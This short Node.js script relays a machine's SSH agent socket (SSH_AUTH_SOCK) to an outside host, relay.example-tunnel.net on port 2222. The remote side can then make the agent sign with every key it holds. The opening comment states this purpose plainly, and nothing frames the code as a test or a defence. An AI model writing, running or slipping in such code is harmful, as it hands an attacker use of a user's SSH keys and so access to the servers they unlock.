// Reads credentials by use: a socket made with new net.Socket() is
// connected to the SSH agent (SSH_AUTH_SOCK) and relayed to a remote host,
// which can ask the agent to sign with every key it holds.
'use strict';
const net = require('net');

const agent = new net.Socket();
agent.connect(process.env.SSH_AUTH_SOCK);
const remote = new net.Socket();
remote.connect(2222, 'relay.example-tunnel.net', () => {
  agent.pipe(remote).pipe(agent);
});
